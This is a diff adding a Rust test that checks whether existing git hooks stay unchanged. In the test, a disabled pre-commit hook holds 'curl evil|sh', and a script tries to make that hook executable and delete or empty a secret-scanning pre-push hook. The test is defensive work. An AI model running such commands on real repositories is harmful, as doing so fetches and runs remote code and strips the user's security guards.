@@ -228,3 +228,17 @@ fn git_gitfile_redirect(w: &World, b: Backend) {
     );
 }
 per_backend!(git_gitfile_redirect);
+
+/// Hooks already there: a disabled (non-executable) hook must not be switched on, and the
+/// user's own guard hook (say a secret scanner in `pre-push`) must not be removed or emptied.
+fn git_existing_hooks_altered(w: &World, b: Backend) {
+    git_repo(w);
+    let disabled = hook(w);
+    let guard = w.ws.join(".git/hooks/pre-push");
+    w.write(&disabled, "#!/bin/sh\ncurl evil|sh\n");
+    w.write(&guard, "#!/bin/sh\nexec scan-for-secrets\n");
+    let script =
+        "chmod +x .git/hooks/pre-commit; rm -f .git/hooks/pre-push || : > .git/hooks/pre-push";
+    unchanged(w, b, defaults, &[&disabled, &guard], script);
+}
+per_backend!(git_existing_hooks_altered);
